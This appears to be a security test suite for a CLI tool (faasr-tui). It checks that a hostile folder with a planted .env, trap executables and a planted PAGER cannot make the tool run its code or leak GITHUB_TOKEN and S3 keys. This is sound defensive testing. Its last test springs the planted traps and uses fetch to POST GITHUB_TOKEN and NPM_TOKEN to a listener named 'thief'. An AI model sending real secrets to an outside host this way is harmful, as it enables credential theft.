import {spawnSync} from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import process from 'node:process';
import t from 'tap';
import {openTerminal, type OpenTerminal} from '../support/cli/open-terminal.js';
import {asUser, binFile, runBin} from '../support/cli/run-bin.js';
import {accessKeyId, makeStranger, secrets, type Stranger} from '../support/security/make-stranger.js';
import {type Listener, startListener} from '../support/security/start-listener.js';

t.setTimeout(240_000);

type Test = Parameters<typeof startListener>[0] & Parameters<typeof makeStranger>[0];

type Assertions = Pick<typeof t, 'same' | 'notMatch'>;

/** A stranger's folder, the server that it names, and the GitHub that the user names. */
type World = Stranger & {readonly thief: Listener; readonly github: Listener};

const startWorld = async (t: Test, {hasOwnApi = true}: {readonly hasOwnApi?: boolean} = {}): Promise<World> => {
	const thief = await startListener(t);
	const github = await startListener(t);
	return {...makeStranger(t, {thief: thief.url, github: hasOwnApi ? github.url : undefined}), thief, github};
};

/** What the folder did and what left the machine: nothing, but for a key's name and a signature at the endpoint of the document. */
const checkHeld = (t: Assertions, {thief, github, getSprung}: World): void => {
	t.same(getSprung(), [], 'nothing of the folder ran');
	for (const [name, value] of Object.entries(secrets)) {
		t.notMatch(thief.heard(), value, `${name} went nowhere that the folder names`);
		if (name !== 'GITHUB_TOKEN') {
			t.notMatch(github.heard(), value, `${name} is none of GitHub's business`);
		}
	}

	t.notMatch(thief.heard(), /CONNECT/u, 'no proxy of the folder');
};

type Look = {
	readonly parameters: readonly string[];
	readonly code: number;
	/** Where the user's credentials may go. */
	readonly asks: 'nobody' | 'github' | 'store' | 'both';
};

const last = ['--invocation-id', '@latest'];
const looks: Readonly<Record<string, Look>> = {
	validate: {parameters: ['validate', 'main.json'], code: 0, asks: 'nobody'},
	graph: {parameters: ['graph', 'main.json'], code: 0, asks: 'nobody'},
	'graph --format json': {parameters: ['graph', 'main.json', '--format', 'json'], code: 0, asks: 'nobody'},
	replay: {parameters: ['replay', 'recording.ndjson', '--ci'], code: 1, asks: 'nobody'},
	doctor: {parameters: ['doctor', 'main.json'], code: 4, asks: 'both'},
	ls: {parameters: ['ls', 'main.json'], code: 4, asks: 'store'},
	logs: {parameters: ['logs', 'main.json', ...last], code: 4, asks: 'store'},
	watch: {parameters: ['watch', 'main.json', ...last, '--ci', '--timeout', '2'], code: 4, asks: 'store'},
	'resume --dry-run': {parameters: ['resume', 'main.json', ...last, '--dry-run', '--timeout', '2'], code: 4, asks: 'store'},
	'register --dry-run': {parameters: ['register', 'main.json', '--dry-run'], code: 4, asks: 'github'},
	completion: {parameters: ['--get-yargs-completions', 'faasr-tui', ''], code: 0, asks: 'nobody'},
};

for (const [name, {parameters, code, asks}] of Object.entries(looks)) {
	t.test(`${name} sends nothing where the folder says, starts no program and springs no trap`, async t => {
		const world = await startWorld(t);
		const run = await runBin(parameters, {cwd: world.folder, env: world.env});
		t.equal(run.code, code, run.stdout + run.stderr);
		checkHeld(t, world);
		t.same(world.getStarted(), []);
		t.equal(world.github.heard().includes(secrets.GITHUB_TOKEN), asks === 'github' || asks === 'both', 'the token goes to the GitHub that the user names');
		t.equal(world.thief.heard().includes(accessKeyId), asks === 'store' || asks === 'both', 'a signature goes to the document\'s endpoint');
		if (asks === 'nobody') {
			t.equal(world.thief.heard() + world.github.heard(), '');
		}
	});
}

for (const [name, {parameters}] of Object.entries(looks).filter(([, {asks}]) => asks !== 'nobody')) {
	t.test(`${name} with an address in .env and the token in the environment is refused, the host is named, nothing is sent`, async t => {
		const world = await startWorld(t, {hasOwnApi: false});
		const run = await runBin(parameters, {cwd: world.folder, env: world.env});
		t.equal(run.code, 4, run.stdout + run.stderr);
		t.match(run.stderr, `GITHUB_API_URL in .env would send GITHUB_TOKEN of your environment to ${new URL(world.thief.url).host}, so nothing was sent.`);
		t.equal(world.thief.heard(), '');
		checkHeld(t, world);
		t.same(world.getStarted(), []);
	});
}

t.test('doctor --local starts the interpreters apart from the folder, and nothing else', async t => {
	const world = await startWorld(t);
	const run = await runBin(['doctor', 'main.json', '--local'], {cwd: world.folder, env: world.env});
	t.match(run.stdout, /Python 3\.\d+\.\d+ runs the Python functions/u);
	checkHeld(t, world);
	t.equal(world.thief.heard() + world.github.heard(), '');
	const started = world.getStarted();
	t.ok(started.some(line => /^python3 -I -c in \/$/u.test(line)), started.join('\n'));
	t.same(started.filter(line => !/^(?:python3? -I -c|Rscript --vanilla -e) in \/$/u.test(line)), []);
});

/** What the local cloud starts without running anything: it looks for interpreters, and guards against its own end. */
const ofTheLocalCloud = /^(?:python3? -I -c|Rscript --vanilla -e|sh -c faasr-tui-guard) in \/$/u;

t.test('ls, watch and logs of a local data folder ask nobody and run nothing of the folder', async t => {
	const world = await startWorld(t);
	for (const command of [['ls'], ['logs', ...last], ['watch', ...last, '--ci', '--timeout', '2']]) {
		await runBin([...command, 'main.json', '--local', '--data-dir', 'data'], {cwd: world.folder, env: world.env});
	}

	checkHeld(t, world);
	t.equal(world.thief.heard() + world.github.heard(), '');
	t.same(world.getStarted().filter(line => !ofTheLocalCloud.test(line)), []);
});

const openScreen = (t: Test, {folder, env}: World, parameters: readonly string[]): OpenTerminal => {
	const terminal = openTerminal('cd "$1"; shift; exec "$@"', {columns: 120, rows: 40, env, args: [folder, ...asUser([process.execPath, binFile, ...parameters]).flat()]});
	t.teardown(async () => {
		terminal.kill('SIGKILL');
	});
	return terminal;
};

const showsText = (text: string) => (lines: readonly string[]): boolean => lines.join('\n').includes(text);

t.test('the screen before a trigger says what goes where, sends nothing else, and starts no program', async t => {
	const world = await startWorld(t);
	const screen = openScreen(t, world, ['main.json']);
	await screen.waitFor(showsText(`GITHUB_TOKEN -> ${new URL(world.github.url).host}`), 'what is sent where');
	await screen.waitFor(showsText('not ready'), 'the end of the checks');
	screen.type('q');
	await screen.exited;
	checkHeld(t, world);
	t.same(world.getStarted(), []);
	t.match(world.github.heard(), secrets.GITHUB_TOKEN);
});

t.test('the screen of a local run that nobody triggers runs nothing of the folder, whatever is pressed', async t => {
	const world = await startWorld(t);
	const withoutCredentials = {GITHUB_TOKEN: '', MY_S3_BUCKET_ACCESSKEY: '', MY_S3_BUCKET_SECRETKEY: ''};
	const screen = openScreen(t, {...world, env: {...world.env, ...withoutCredentials, PAGER: 'true'}}, ['main.json']);
	await screen.waitFor(showsText('no credentials set'), 'the local cloud');
	await screen.waitFor(showsText('Python 3.'), 'the checks');
	screen.type('jkvo');
	// Again and again: a key that comes while the pager has the terminal is the pager's.
	const typing = setInterval(() => {
		screen.type('q');
	}, 500);
	await screen.exited;
	clearInterval(typing);
	checkHeld(t, world);
	t.equal(world.thief.heard() + world.github.heard(), '');
	t.same(world.getStarted().filter(line => !ofTheLocalCloud.test(line)), []);
});

t.test('the screen of a recording shows logs in the user\'s own pager alone', async t => {
	const world = await startWorld(t);
	// Named without its folder: it is looked for, and not in the current one.
	const screen = openScreen(t, {...world, env: {...world.env, PAGER: 'less'}}, ['replay', 'recording.ndjson', '--speed', '2']);
	await screen.waitFor(showsText('FAILED'), 'the end of the recording');
	screen.type('vo');
	const typing = setInterval(() => {
		screen.type('q');
	}, 500);
	await screen.exited;
	clearInterval(typing);
	checkHeld(t, world);
	t.match(world.getStarted(), [/^less \S*faasr\.log /u]);
	t.equal(world.getStarted().length, 1);
});

t.test('--events and --reporter do not write through links of the folder', async t => {
	const world = await startWorld(t);
	for (const option of [['--reporter', 'junit=report.xml'], ['--reporter', 'json=events.ndjson']]) {
		const run = await runBin(['replay', 'recording.ndjson', ...option], {cwd: world.folder, env: world.env});
		t.equal(run.code, 2);
		t.match(run.stderr, 'is a link out of this folder');
	}

	checkHeld(t, world);
});

t.test('what .env says changes nothing of what is printed', async t => {
	const world = await startWorld(t);
	const commands = [['validate', 'main.json'], ['graph', 'main.json'], ['replay', 'recording.ndjson', '--ci'], ['--help']];
	const print = async (): Promise<readonly string[]> => Promise.all(commands.map(async command => {
		const {code, stdout, stderr} = await runBin(command, {cwd: world.folder, env: world.env});
		return `${code} ${stdout} ${stderr}`;
	}));
	const planted = await print();
	fs.rmSync(path.join(world.folder, '.env'));
	t.same(planted, await print());
});

t.test('the traps would spring, and the server hears', async t => {
	const world = await startWorld(t);
	const run = (command: string): void => {
		spawnSync('/bin/sh', ['-c', command], {cwd: world.folder, env: {...world.env, PATH: `${process.env['PATH'] ?? ''}`}});
	};

	for (const command of ['./less', 'python3 -c "import json"', 'Rscript -e 1', 'node --require ./planted-by-a-stranger/node.cjs -e 0', './planted-by-a-stranger/PAGER', 'echo x > events.ndjson', 'echo x >> planted-by-a-stranger/file-GITHUB_STEP_SUMMARY']) {
		run(command);
	}

	const sprung = world.getSprung();
	for (const name of ['current-less', 'json.py', 'NODE_OPTIONS', 'PAGER', '.bashrc was written', 'planted-by-a-stranger/file-GITHUB_STEP_SUMMARY was written']) {
		t.ok(sprung.includes(name), `${name}: ${sprung.join(', ')}`);
	}

	await fetch(world.thief.url, {method: 'POST', headers: {authorization: secrets.GITHUB_TOKEN}, body: secrets.NPM_TOKEN});
	t.match(world.thief.heard(), secrets.GITHUB_TOKEN);
	t.match(world.thief.heard(), secrets.NPM_TOKEN);
});
